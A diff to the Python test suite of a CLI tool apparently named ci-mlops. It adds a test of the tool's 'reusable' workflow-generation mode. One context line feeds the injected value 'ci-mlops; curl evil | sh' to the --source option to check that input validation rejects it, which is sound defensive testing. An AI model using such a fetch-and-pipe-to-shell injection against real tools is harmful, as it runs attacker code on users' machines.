@@ -390,3 +390,13 @@ def test_source_option_writes_the_install_source(tmp_path):
     assert f"git+https://github.com/ci-mlops/ci-mlops@{sha} 'dvc[s3]'" in run
     bad = run_cli("init", str(tmp_path / "repo"), "--yes", "--force", "--source", "ci-mlops; curl evil | sh")
     assert bad.returncode == 2 and bad.stderr.count("\n") == 1 and "--source:" in bad.stderr
+
+
+def test_reusable_mode_passes_the_source_and_the_projects_dvc(tmp_path):
+    root = build(tmp_path / "repo", LAYOUTS["cml_dvc_case"])
+    proc = run_cli("init", str(root), "--yes", "--mode", "reusable")
+    assert proc.returncode == 0, proc.stderr
+    job = yaml.safe_load((root / WF / "ci-mlops-pr.yml").read_text())["jobs"]["pr"]
+    assert job["with"]["install"] == "pip install -r requirements.txt && python -m pip install 'dvc[s3]'"
+    assert (job["with"]["ci-mlops-source"], job["with"]["ci-mlops-python"]) == (f"ci-mlops=={__version__}", "3.12")
+    assert lint(sorted((root / WF).glob("ci-mlops-*.yml"))) == []
